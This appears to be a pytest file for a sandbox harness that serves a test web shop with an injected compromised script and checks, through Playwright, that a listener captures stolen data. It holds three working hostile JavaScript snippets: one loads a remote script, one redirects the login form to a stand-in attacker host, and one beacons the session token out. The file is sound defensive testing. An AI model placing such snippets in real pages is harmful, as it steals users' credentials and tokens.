"""Probes of the browser scenarios: the bundled web shop with a compromised third-party script in
its pages (`extra_script`), driven by Playwright in Debian's Chromium, steals from the page and
sends it to an attacker host (a listener of the harness). Each probe checks what the listener
stored; a browser sends without waiting for the page, so the check waits for it (bounded)."""

import time

import pytest

from sandhop.datasets.webshop.app import make_server

DEADLINE_S = 5  # a listener stores within milliseconds; a stopped request never arrives


@pytest.fixture
def shop_with():
    """Serve the shop with a given compromised script in its pages; stopped after the test."""
    servers = []

    def start(script: str) -> str:
        servers.append(make_server(extra_script=script))
        return f"http://127.0.0.1:{servers[-1].server_address[1]}"
    yield start
    for server in servers:
        server.shutdown()


def log_in(page, base):
    page.goto(base + "/login")
    page.fill("input[name=user]", "alice")
    page.fill("input[name=password]", "wonderland")
    page.click("#submit")
    page.wait_for_load_state()


def stolen(page, loot, needle: bytes) -> bytes:
    """The first thing a listener stored that contains `needle` (waits up to DEADLINE_S, inside
    Playwright: the page's requests are routed only while the test is in a Playwright call)."""
    end = time.monotonic() + DEADLINE_S
    while time.monotonic() < end:
        for path in sorted(loot.folder.glob("http-*.bin")):
            data = path.read_bytes()
            if needle in data:
                return data
        page.wait_for_timeout(50)
    raise AssertionError(f"no listener stored {needle!r} within {DEADLINE_S} s")


INJECT = ("window.addEventListener('load', () => { if (!localStorage.getItem('token')) return;"
          " const s = document.createElement('script'); s.src = 'http://cdn-update-check.top/static/lib.js';"
          " document.head.appendChild(s); });")


def test_browser_token_exfil(sandhop_page, shop_with, loot):
    log_in(sandhop_page, shop_with(INJECT))
    token = sandhop_page.evaluate("localStorage.getItem('token')")
    assert token and len(token) == 32
    assert stolen(sandhop_page, loot, token.encode()) == f"token={token}".encode()


JACK = ("document.addEventListener('DOMContentLoaded', () => { const f = document.getElementById('login');"
        " if (f) f.action = 'http://telemetry-sync.xyz/collect'; });")


def test_form_jacking(sandhop_page, shop_with, loot):
    log_in(sandhop_page, shop_with(JACK))
    assert b"password=wonderland" in stolen(sandhop_page, loot, b"user=alice")
    assert "stored http-" in sandhop_page.content()  # the browser landed on the attacker's page


BEACON = ("window.addEventListener('load', () => { const t = localStorage.getItem('token');"
          " if (t) navigator.sendBeacon('http://api.pkg-stats.io/collect', 'token=' + t); });")


def test_beacon_exfil(sandhop_page, shop_with, loot):
    log_in(sandhop_page, shop_with(BEACON))
    token = sandhop_page.evaluate("localStorage.getItem('token')")
    assert stolen(sandhop_page, loot, token.encode()) == f"token={token}".encode()
